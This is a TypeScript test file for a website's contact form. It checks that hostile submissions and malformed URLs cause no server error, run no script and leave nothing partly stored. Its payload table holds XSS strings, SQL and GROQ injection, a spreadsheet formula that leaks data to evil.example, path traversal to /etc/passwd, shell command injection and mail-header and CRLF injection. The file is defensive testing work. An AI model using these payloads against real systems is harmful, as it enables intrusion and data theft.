/** Requests that no browser sends cause no server error, run no code and store nothing partial. */
import {renderToStaticMarkup} from 'react-dom/server'
import {test as base, describe, expect} from 'vitest'
import {disposed} from '../../helpers/disposed.ts'
import {valuesOf} from '../../helpers/site/answers.ts'
import {openBrowser, openPage} from '../../helpers/site/open-browser.ts'
import {type SiteProcess, startSite} from '../../helpers/site/start-site.ts'
import {editorClient} from '../../helpers/studio/editor-client.ts'

const URLENCODED = 'application/x-www-form-urlencoded'

/** One site for the whole file; the last test checks its log for errors. */
const test = base.extend('site', {scope: 'file'}, disposed(startSite))

function post(site: SiteProcess, path: string, init: RequestInit): Promise<Response> {
  return fetch(site.url + path, {method: 'POST', redirect: 'manual', ...init})
}

async function storedContact(site: SiteProcess, email: string) {
  const client = await editorClient(site.url)
  const found = await client.fetch<unknown[]>(
    '*[_type == "submission" && answers[name == "email"][0].value == $email]',
    {email},
    {perspective: 'raw'},
  )
  return found.map(valuesOf)
}

/** Names of the page's elements that can load or run something, in order. */
function elements(html: string): string[] {
  return html.match(/<(script|img|svg|a|iframe|input|textarea)\b/g) ?? []
}

describe('texts that would be code elsewhere', () => {
  const TEXTS: [kind: string, text: string, kept?: string][] = [
    ['a script', '<script>window.stolen = 1</script>'],
    ['an end of our script', '</script><script>window.stolen = 1</script>'],
    ['an end of our field', '</textarea><img src=x onerror="window.stolen = 1">'],
    ['an end of our attribute', '" autofocus onfocus="window.stolen = 1'],
    ['a drawing', '<svg/onload=window.stolen=1>'],
    ['a comment', '<!--><script>window.stolen = 1</script>-->'],
    ['an escaped script', '&lt;script&gt;window.stolen = 1&lt;/script&gt;'],
    ['an address that runs', 'javascript:window.stolen=1//<a href="javascript:x">'],
    ['a template', `\${window.stolen = 1} {{constructor.constructor('window.stolen=1')()}}`],
    ['an end of our JSON', '"}];window.stolen=1;//\\u003c/script\\u003e'],
    ['SQL', `'; DROP TABLE documents; -- " OR 1=1`],
    ['GROQ', `"] | order(_id) {..., "all": *[_type == "submission"]} // $email`],
    ['a formula', `=HYPERLINK("https://evil.example?x="&A1,"click")`],
    ['a path', '../../../../etc/passwd%00.png'],
    ['a shell', '$(touch /tmp/stolen) `id` ; |& id'],
    ['a format', '%s%n%x {0} %{PATH}'],
    ['a log line', 'x [31m error: fake'],
    ['a mail header', 'Asha\r\nBcc: all@evil.example', 'Asha Bcc: all@evil.example'],
    ['control characters', 'As\0ha\x1b[2J\x7f\x9f!', 'Asha[2J!'],
    ['reversed reading', 'Asha \u202egnp.exe\u202c'],
    ['hidden letters', 'As\u200bha\u2060 \u00adVerma\u{e0061}'],
    ['joined letters', 'क्\u200dष 👩🏽‍⚕️ 🏥'],
    ['letters that look alike', 'Аsһа Ѵеrmа'],
    ['stacked accents', `Z${'\u0353\u0321'.repeat(200)}`],
    ['half a letter', '%ED%A0%80x%ED%BF%BF', '\ufffd\ufffd\ufffdx\ufffd\ufffd\ufffd'],
    ['no letters', '%FF%FE', '\ufffd\ufffd'],
    ['the last letters', 'x\u{10ffff}\ufffe\uffff'],
  ]

  /** Texts that are already percent-encoded stand for bytes that are not valid UTF-8. */
  const encoded = (text: string) => (/^%[EF]/.test(text) ? text : encodeURIComponent(text))
  const body = (email: string, text: string) =>
    `name=${encoded(text)}&email=${encodeURIComponent(email)}&message=${encoded(text)}`
  const headers = {'Content-Type': URLENCODED}

  test.for(TEXTS.map((row, index) => [...row, index] as const))('%s', async (row, {site}) => {
    const [, text] = row
    const index = row[row.length - 1]
    const kept = typeof row[2] === 'string' ? row[2] : text

    const wrong = await post(site, '/contact', {headers, body: body('none', text)})
    const html = await wrong.text()
    expect(wrong.status).toBe(400)
    if (/[<"]/.test(text)) expect(html.includes(text)).toBe(false)
    expect(html.includes(renderToStaticMarkup(text)) || kept !== text).toBe(true)
    const plain = await post(site, '/contact', {headers, body: body('none', 'Asha')})
    expect(elements(html)).toEqual(elements(await plain.text()))

    const email = `case-${index}@clinic.example`
    const accepted = await post(site, '/contact', {headers, body: body(email, text)})
    expect(accepted.status).toBe(303)
    const [stored] = await storedContact(site, email)
    expect(stored?.name).toBe(kept)
    expect(stored?.message?.replace(/\n/g, ' ')).toBe(kept)
  })

  test('in a browser none of them runs, and the page works with them in it', async ({site}) => {
    await using browser = await openBrowser()
    const {page, problems, foreignRequests} = await openPage(browser, site.url)
    await page.route('https://www.openstreetmap.org/**', (route) => route.abort())
    const all = TEXTS.map(([, text]) => text).join('\n')
    await page.goto('/contact')
    // Bypasses the form's script, as before it has loaded.
    await page.evaluate((text) => {
      const form = document.querySelector<HTMLFormElement>('main form[action="/contact"]')
      for (const field of form?.querySelectorAll('input:not([type]), textarea') ?? []) {
        if (field instanceof HTMLInputElement || field instanceof HTMLTextAreaElement) {
          field.value = text
        }
      }
      form?.submit()
    }, all)
    await page.getByText('Please check the marked fields').waitFor()
    await page.getByRole('button', {name: 'Send Message'}).click()
    expect(await page.evaluate(() => 'stolen' in window)).toBe(false)
    expect(problems.filter((text) => !/status of 400|ERR_FAILED/.test(text))).toEqual([])
    expect(foreignRequests.filter((url) => !url.includes('openstreetmap'))).toEqual([])
  })
})

test.for([
  '/contact%',
  '/%E0%A4%A',
  '/contact%00',
  '/contact/..%2f..%2fetc%2fpasswd',
  '/contact%0d%0aSet-Cookie:x=y',
  '/contact?sent=%E0%A4%A',
  '/referral?sent=%3Cscript%3E',
  '/contact?__proto__[x]=y',
  '//evil.example/contact',
])('%s is read or posted to without harm', async (path, {site}) => {
  for (const address of [path, path.replace(/(?=\?|$)/, '.data')]) {
    for (const init of [{}, {method: 'POST', body: new URLSearchParams({name: '<i>'})}]) {
      const response = await fetch(site.url + address, {redirect: 'manual', ...init})
      expect(response.status).toBeLessThan(500)
      expect(response.headers.get('Set-Cookie')).toBeNull()
      const isPage = response.headers.get('Content-Type')?.startsWith('text/html')
      expect((await response.text()).includes('<i>') && isPage).toBe(false)
    }
  }
})

test('none of this was a server error, and only forms came into the inbox', async ({site}) => {
  expect(site.output()).not.toMatch(/^error:|Unexpected/m)
  const client = await editorClient(site.url)
  const names = await client.fetch(
    'array::unique(*[_type == "submission"].form)',
    {},
    {perspective: 'raw'},
  )
  expect(names).toEqual(['contact'])
  expect((await fetch(`${site.url}/contact`)).status).toBe(200)
})
